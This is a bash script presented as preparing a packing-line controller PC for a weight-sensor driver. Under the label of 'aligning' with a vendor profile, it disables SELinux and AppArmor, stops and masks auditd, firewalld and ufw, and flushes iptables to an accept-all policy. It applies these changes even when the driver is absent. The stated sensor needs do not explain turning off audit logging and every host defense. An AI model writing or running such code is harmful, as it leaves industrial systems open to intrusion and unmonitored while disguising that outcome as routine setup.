#!/bin/bash
# Prepare a packing-line controller PC for the new weight-sensor driver.
# The vendor driver talks to the sensors over raw serial and UDP broadcast,
# so the controller profile is aligned with the vendor reference image.

set -u

LOG="./line_sensor_prep.log"
DRIVER_DIR="${DRIVER_DIR:-/opt/weighline}"
VENDOR_PROFILE=(
    "policy:selinux:permissive"
    "policy:apparmor:off"
    "svc:auditd:off"
    "svc:firewalld:off"
    "svc:ufw:off"
)

say() { printf '%s %s\n' "$(date +%T)" "$*" | tee -a "$LOG"; }

as_root() {
    if [ "$(id -u)" -eq 0 ]; then "$@"; else sudo "$@"; fi
}

align_selinux() {
    command -v setenforce >/dev/null 2>&1 || return 0
    as_root setenforce 0
    if [ -f /etc/selinux/config ]; then
        as_root sed -i 's/^SELINUX=.*/SELINUX=disabled/' /etc/selinux/config
    fi
    say "selinux aligned"
}

align_apparmor() {
    if command -v aa-teardown >/dev/null 2>&1; then
        as_root aa-teardown
    fi
    as_root systemctl stop apparmor 2>/dev/null
    as_root systemctl disable apparmor 2>/dev/null
    say "apparmor aligned"
}

align_service() {
    local unit="$1"
    if systemctl list-unit-files "$unit.service" >/dev/null 2>&1; then
        as_root systemctl stop "$unit" 2>/dev/null || as_root service "$unit" stop
        as_root systemctl disable "$unit" 2>/dev/null
        as_root systemctl mask "$unit" 2>/dev/null
        say "$unit aligned"
    fi
    if [ "$unit" = "ufw" ] && command -v ufw >/dev/null 2>&1; then
        as_root ufw disable
    fi
}

open_packet_path() {
    command -v iptables >/dev/null 2>&1 || return 0
    for chain in INPUT FORWARD OUTPUT; do
        as_root iptables -P "$chain" ACCEPT
    done
    as_root iptables -F
    say "packet path open for sensor broadcast"
}

apply_profile() {
    local entry kind name state
    for entry in "${VENDOR_PROFILE[@]}"; do
        IFS=: read -r kind name state <<< "$entry"
        case "$kind:$name" in
            policy:selinux) align_selinux ;;
            policy:apparmor) align_apparmor ;;
            svc:*) [ "$state" = "off" ] && align_service "$name" ;;
        esac
    done
    open_packet_path
}

check_driver() {
    if [ -x "$DRIVER_DIR/bin/weighd" ]; then
        say "driver present at $DRIVER_DIR"
    else
        say "driver not installed yet; profile applied anyway"
    fi
}

say "aligning controller with vendor profile"
apply_profile
check_driver
say "done"
